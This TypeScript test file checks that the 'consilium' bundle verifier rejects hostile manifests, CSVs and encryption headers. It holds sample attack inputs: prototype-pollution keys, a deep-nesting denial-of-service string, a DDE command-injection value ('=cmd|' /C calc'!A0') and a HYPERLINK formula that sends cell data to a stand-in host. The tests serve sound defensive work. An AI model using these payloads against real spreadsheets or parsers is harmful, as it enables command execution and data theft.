// Bundles an attacker would write, built here from a genuine one: each must be rejected with its
// code, in plain words, quickly and without a stack overflow.
import { strToU8, unzipSync, zipSync, type Zippable } from 'fflate';
import { describe, expect, it } from 'vitest';
import { generateSigningKeys } from '../crypto/keys';
import { sha256Hex } from '../crypto/sha256';
import { ENCRYPTION_MAGIC, MAX_ITERATIONS } from './encryption';
import { sampleResults } from './sampleResults';
import type { BundleResults } from './types';
import { verifyBundle } from './verifyBundle';
import { writeBundle } from './writeBundle';

const software = { name: 'consilium', version: '0.1.0' };
const text = (b: Uint8Array) => new TextDecoder().decode(b);

async function genuine(results?: BundleResults): Promise<Record<string, Uint8Array>> {
  const zip = await writeBundle({
    center: 'Center A',
    software,
    results: results ?? (await sampleResults()),
    createdAt: '2025-01-02T03:04:05.000Z',
  });
  return unzipSync(zip) as Record<string, Uint8Array>;
}

function zip(files: Record<string, Uint8Array>): Uint8Array {
  const z: Zippable = {};
  for (const [name, data] of Object.entries(files)) z[name] = data;
  return zipSync(z);
}

/** Replace a CSV member and list its new size and hash, so only the CSV check can object. */
async function withCsv(files: Record<string, Uint8Array>, name: string, csv: string) {
  const bytes = strToU8(csv);
  const manifest = JSON.parse(text(files['manifest.json'])) as {
    members: { name: string; size: number; sha256: string }[];
  };
  const entry = manifest.members.find((m) => m.name === name)!;
  entry.size = bytes.length;
  entry.sha256 = await sha256Hex(bytes);
  return zip({ ...files, [name]: bytes, 'manifest.json': strToU8(JSON.stringify(manifest)) });
}

async function codeOf(bytes: Uint8Array, passphrase?: string) {
  const r = await verifyBundle(bytes, passphrase === undefined ? {} : { passphrase });
  return r.ok ? 'accepted' : `${r.error.code}: ${r.error.reason}`;
}

describe('hostile manifest.json', () => {
  it('rejects a key given twice (which "center" counts?)', async () => {
    const files = await genuine();
    const m = text(files['manifest.json']);
    files['manifest.json'] = strToU8(
      m.replace('"center": {', '"center": {"name": "Shadow Center"},\n  "center": {'),
    );
    expect(await codeOf(zip(files))).toMatch(
      /^MANIFEST_DUPLICATE_KEY: .*the key "center" appears twice in one object at line 3/,
    );
  });

  it('rejects __proto__, constructor and prototype keys anywhere', async () => {
    for (const key of ['__proto__', 'constructor', 'prototype']) {
      const files = await genuine();
      const m = text(files['manifest.json']);
      files['manifest.json'] = strToU8(
        m.replace('"params": {', `"params": {"${key}": {"polluted": "yes"}, `),
      );
      expect(await codeOf(zip(files)), key).toMatch(
        new RegExp(`^MANIFEST_FORBIDDEN_KEY: .*the key "${key}" is not allowed`),
      );
    }
  });

  it('rejects params nested 50,000 deep at once, with a verdict and no stack overflow', async () => {
    const files = await genuine();
    const deep = '{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000);
    files['manifest.json'] = strToU8(
      text(files['manifest.json']).replace('"params": {', `"params": {"deep": ${deep}, `),
    );
    const t0 = performance.now();
    expect(await codeOf(zip(files))).toMatch(/^MANIFEST_TOO_DEEP: .*deeper than 32 levels/);
    expect(performance.now() - t0).toBeLessThan(1000);
  });

  it('rejects a byte-order mark, lone surrogates and numbers no double holds', async () => {
    for (const [from, to] of [
      ['{', '\ufeff{'],
      ['"Center A"', '"Center \\ud800A"'],
      ['"edgeFraction": 0.125', '"edgeFraction": 1e400'],
    ]) {
      const files = await genuine();
      files['manifest.json'] = strToU8(text(files['manifest.json']).replace(from, to));
      expect(await codeOf(zip(files)), to).toMatch(/^MANIFEST_NOT_JSON: /);
    }
  });
});

describe('CSV members', () => {
  it('neutralises user text that starts like a formula, and reads it back', async () => {
    const results = await sampleResults();
    const features = results.features.map((r, i) => ({
      ...r,
      roi: ['=1+1', '@SUM(A1)', '-1', '\tlesion'][i],
      label: ['=HYPERLINK("http://x.invalid","a")', '+41', 'benign', '＝1'][i],
    }));
    const zipped = await writeBundle({
      center: "=cmd|' /C calc'!A0",
      software,
      results: { ...results, features },
    });
    const verified = await verifyBundle(zipped);
    expect(verified.ok).toBe(true);
    if (!verified.ok) return;
    expect(verified.bundle.manifest.center.name).toBe("=cmd|' /C calc'!A0");
    const csv = text(verified.bundle.members.get('features.csv')!);
    for (const cell of ["'=1+1", "'@SUM(A1)", "'-1", "'\tlesion", "'+41", "'＝1"])
      expect(csv).toContain(cell);
    expect(csv).toContain('"\'=HYPERLINK(""http://x.invalid"",""a"")"');
    // No cell of it starts like a formula; negative numbers stay numbers.
    expect(csv).toMatch(/,-3\.25\n/);
  });

  it('rejects a formula cell, even where the manifest has the same text', async () => {
    const files = await genuine();
    const csv = text(files['features.csv']).replace(
      /\n([0-9a-f]{32})/,
      '\n=HYPERLINK("http://x.invalid/?"&A1;"open"),$1',
    );
    expect(await codeOf(await withCsv(files, 'features.csv', csv))).toMatch(
      /^CSV_FORMULA: Row 2, column 1 starts like a spreadsheet formula/,
    );
    const labels = text(files['predictions.csv']).replace(',benign,benign,', ',benign,=1+1,');
    expect(await codeOf(await withCsv(files, 'predictions.csv', labels))).toMatch(/^CSV_FORMULA/);
  });

  it('rejects a CSV that says something other than the manifest', async () => {
    const files = await genuine();
    const features = text(files['features.csv']);
    const cases: [string, string, RegExp][] = [
      [
        'features.csv',
        features.replace('-3.25', '-3.5'),
        /CSV_MISMATCH: Row 2, column "Mean \[Q4LE\]" says "-3.5" where the manifest says "-3.25"/,
      ],
      [
        'features.csv',
        features.replace('caseKey,', 'case,'),
        /CSV_MISMATCH: The header differs .* column 1/,
      ],
      [
        'features.csv',
        features + features.split('\n')[1] + '\n',
        /CSV_MISMATCH: The CSV has more rows/,
      ],
      [
        'features.csv',
        features.split('\n').slice(0, 3).join('\n') + '\n',
        /CSV_MISMATCH: The CSV has 2 rows; the manifest's results give 4/,
      ],
      ['features.csv', features.replace('\n', '\r\n'), /CSV_MALFORMED: .*carriage return/],
      [
        'features.csv',
        features.replace('whole-image', 'whole"image'),
        /CSV_MALFORMED: .*quote inside an unquoted cell/,
      ],
      [
        'features.csv',
        features.replace('whole-image', '"whole-image"x'),
        /CSV_MALFORMED: .*after a closing quote/,
      ],
      [
        'features.csv',
        features.replace('whole-image', '"whole-image'),
        /CSV_MALFORMED: .*not closed/,
      ],
      [
        'predictions.csv',
        text(files['predictions.csv']).replace('0.75', '0.7500000001'),
        /CSV_MISMATCH/,
      ],
      ['predictions.csv', '', /CSV_MISMATCH: The header differs/],
    ];
    for (const [name, csv, expected] of cases)
      expect(await codeOf(await withCsv(files, name, csv)), csv.slice(0, 60)).toMatch(expected);
    // Equivalent spellings of the same cells are fine: quotes, another number form, no final LF.
    const quoted = features.replace('whole-image', '"whole-image"').replace('-3.25', '-325e-2');
    expect(await codeOf(await withCsv(files, 'features.csv', quoted.slice(0, -1)))).toBe(
      'accepted',
    );
  });

  it('rejects a bundle without its CSVs', async () => {
    const files = await genuine();
    const manifest = JSON.parse(text(files['manifest.json'])) as { members: { name: string }[] };
    manifest.members = manifest.members.filter((m) => m.name !== 'predictions.csv');
    delete files['predictions.csv'];
    files['manifest.json'] = strToU8(JSON.stringify(manifest));
    expect(await codeOf(zip(files))).toMatch(
      /^MEMBER_MISSING: Every bundle carries predictions.csv/,
    );
  });
});

describe('encrypted bundles', () => {
  function header(iterations: number): Uint8Array {
    const bytes = new Uint8Array(40 + 64);
    bytes.set(ENCRYPTION_MAGIC, 0);
    new DataView(bytes.buffer).setUint32(8, iterations, false);
    return bytes;
  }

  it(`refuses more than ${MAX_ITERATIONS} PBKDF2 iterations before deriving any key`, async () => {
    const t0 = performance.now();
    expect(await codeOf(header(10_000_000), 'any passphrase')).toMatch(
      /^ENCRYPTION_HEADER_INVALID: .*asks for 10000000 PBKDF2 iterations; between 310000 and 2000000/,
    );
    // Even without a passphrase: there is no point asking for one.
    expect(await codeOf(header(10_000_000))).toMatch(/^ENCRYPTION_HEADER_INVALID/);
    expect(await codeOf(header(100_000))).toMatch(/^ENCRYPTION_HEADER_INVALID/);
    expect(performance.now() - t0).toBeLessThan(100);
    expect(await codeOf(header(MAX_ITERATIONS))).toMatch(/^ENCRYPTED/);
  });

  it('writes only iteration counts it would read', async () => {
    const keys = await generateSigningKeys();
    await expect(
      writeBundle({
        center: 'A',
        software,
        results: await sampleResults(),
        signWith: keys,
        passphrase: 'x',
      }),
    ).resolves.toBeInstanceOf(Uint8Array);
  });
});
